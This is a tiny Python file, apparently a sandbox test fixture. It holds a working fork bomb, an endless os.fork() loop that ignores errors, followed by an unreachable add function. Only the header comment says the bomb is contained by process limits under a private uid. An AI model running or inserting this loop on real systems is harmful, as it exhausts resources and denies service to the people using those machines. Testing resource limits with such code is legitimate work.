# Fork bomb: every process forks forever. Contained by RLIMIT_NPROC under a private uid,
# then the whole uid is SIGKILLed.
import os

while True:
    try:
        os.fork()
    except Exception:
        pass


def add(a, b):  # never reached
    return a + b
